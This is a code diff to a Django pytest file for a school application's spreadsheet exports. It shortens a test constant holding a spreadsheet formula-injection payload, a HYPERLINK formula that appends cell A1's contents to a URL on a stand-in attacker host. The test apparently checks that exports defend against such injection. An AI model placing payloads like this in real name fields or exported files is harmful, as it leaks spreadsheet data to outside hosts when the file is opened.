@@ -17,7 +17,7 @@ from school.tests.world import add_fines
 pytestmark = pytest.mark.django_db
 
 TITLE_ROW, HEADER_ROW, FIRST = exports.TITLE_ROW, exports.HEADER_ROW, exports.FIRST_DATA_ROW
-EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'
+EVIL_NAME = '=HYPERLINK("http://e.x/?"&A1,"看")'  # fits Staff.name (40)
 
 
 @pytest.fixture
